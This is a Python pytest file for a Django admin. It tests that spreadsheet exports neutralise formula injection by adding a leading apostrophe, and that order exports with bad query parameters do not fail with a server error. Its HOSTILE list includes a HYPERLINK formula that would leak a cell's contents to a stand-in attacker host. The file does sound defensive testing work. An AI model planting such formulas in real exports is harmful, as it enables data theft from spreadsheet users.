"""Spreadsheet exports neutralise formulas and answer bad list parameters (issue 9)."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse

from accounts.exports import neutralise_formula
from accounts.models import OfficialAccount
from accounts.tests.factories import EntityFactory, OfficialAccountFactory, UserFactory

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(value):
    assert neutralise_formula(value) == "'" + value


@pytest.mark.parametrize("value", ["示例科技", "", "a=b", "100", 300, -5, None, "'=already"])
def test_other_values_are_left_alone(value):
    assert neutralise_formula(value) == value


def export_format_index(model, name: str) -> str:
    formats = admin.site._registry[model].get_export_formats()
    return str(next(i for i, f in enumerate(formats) if f().get_title() == name))


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_account_export_neutralises_formulas_in_names(admin_client, fmt):
    entity = EntityFactory(full_name=HOSTILE[0])
    OfficialAccountFactory(entity=entity, name="+SUM(1,2)")
    OfficialAccountFactory(entity=EntityFactory(full_name="@SUM(A1)"), name="-2+3")
    response = admin_client.post(
        reverse("admin:accounts_officialaccount_export"),
        {
            "format": export_format_index(OfficialAccount, fmt),
            "resource": "0",
            **{f"officialaccountexportresource_{name}": "on" for name in ("entity", "name", "appid")},
        },
    )
    assert response.status_code == 200
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
        assert all(cell.data_type != "f" for cell in cells)  # no formula cell at all
        rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    values = {value for row in rows[1:] for value in row}
    assert {"'" + HOSTILE[0], "'+SUM(1,2)", "'@SUM(A1)", "'-2+3"} <= values


@pytest.mark.django_db
def test_order_export_neutralises_formulas_too():
    from certification.admin.exports import OrderResource
    from certification.models import Order
    from certification.tests.factories import make_account, make_order

    make_order(account=make_account(entity=EntityFactory(full_name="=1+1"), name="=2+2"))
    data = OrderResource(with_fees=True).export(queryset=Order.objects.all()).dict
    assert data[0]["entity"] == "'=1+1" and data[0]["official account"] == "'=2+2"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "query",
    [
        "foo=bar",
        "status__exact=zzz&nonsense=1",
        "account__id__exact=abc",
        "review_company__id__exact=99999999999999999999999",
    ],
)
def test_order_export_with_an_unknown_parameter_answers_without_a_500(client, query):
    finance = UserFactory(groups=["Finance"])
    client.force_login(finance)
    url = reverse("admin:certification_order_export") + "?" + query
    for response in (client.get(url), client.post(url, {"format": "0", "resource": "0"})):
        assert response.status_code < 500
        if response.status_code == 302:
            assert response["Location"] == reverse("admin:certification_order_changelist")
